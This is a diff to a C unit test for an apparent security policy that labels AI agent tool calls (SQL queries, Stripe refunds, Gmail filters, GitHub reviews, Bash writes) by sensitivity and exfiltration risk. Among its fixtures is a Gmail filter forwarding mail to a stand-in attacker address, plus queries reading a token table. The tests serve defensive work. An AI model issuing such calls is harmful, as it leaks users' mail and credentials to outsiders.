@@ -248,11 +248,16 @@ static void test_calls(void **state) {
         {"supabase.execute_sql", "{\"query\":\"select t from support_messages\"}", S | U},
         {"supabase.execute_sql", "{\"query\":\"select t from integration_tokens\"}", S | K},
         {"supabase.execute_sql", "{\"query\":\"insert into support_messages (a) values (1)\"}", E | C},
+        {"supabase.apply_migration", "{\"query\":\"insert into support_messages select t from orders\"}", E | C},
+        {"supabase.apply_migration", "{\"query\":\"create index i on orders (a)\"}", E | C},
+        {"supabase.apply_migration", "{\"query\":\"update orders set a = 1\"}", C},
+        {"supabase.get_project", "{}", 0},
         {"postgres.query", "{\"sql\":\"select a from users\"}", U | S | K},
         {"stripe.create_refund", "{\"payment_intent\":\"pi_1\"}", 0}, /* a test key */
         {"gmail.create_filter", "{\"criteria\":{},\"action\":{\"addLabelIds\":[]}}", C},
         {"gmail.create_filter", "{\"criteria\":{},\"action\":{\"forward\":\"x@evil.example\"}}", C | E},
-        {"github.get_file_contents", "{\"owner\":\"acme\",\"repo\":\"website\",\"path\":\"a\",\"branch\":\"refs/pull/7/head\"}", U},
+        {"github.get_file_contents", "{\"owner\":\"acme\",\"repo\":\"website\",\"path\":\"a\",\"branch\":\"refs/pull/7/head\"}",
+         U},
         {"github.get_file_contents", "{\"owner\":\"acme\",\"repo\":\"website\",\"path\":\"a\",\"branch\":\"main\"}", 0},
         {"github.create_pull_request_review", "{\"owner\":\"a\",\"repo\":\"b\",\"event\":\"APPROVE\"}", E | C},
         {"github.create_pull_request_review", "{\"owner\":\"a\",\"repo\":\"b\",\"event\":\"COMMENT\"}", E},
@@ -273,7 +278,8 @@ static void test_calls(void **state) {
         }
     }
     /* what a command writes takes the session's labels */
-    const il_label wrote = policy_label(&c, "Bash", "{\"command\":\"echo x > ~/src/a; mkdir ~/src; cp ~/b /srv/c > rel; cd ~/src && echo y > d\"}", 0);
+    const il_label wrote = policy_label(
+        &c, "Bash", "{\"command\":\"echo x > ~/src/a; mkdir ~/src; cp ~/b /srv/c > rel; cd ~/src && echo y > d\"}", 0);
     assert_int_equal(wrote.nplaces, 3);
     assert_true(il_str_eq(wrote.places[0].value, IL_STR("~/src/a")) && il_str_eq(wrote.places[1].value, IL_STR("/srv/c")));
     assert_true(il_str_eq(wrote.places[2].value, IL_STR("~/src/d")) && il_str_eq(wrote.places[2].kind, IL_STR("path")));
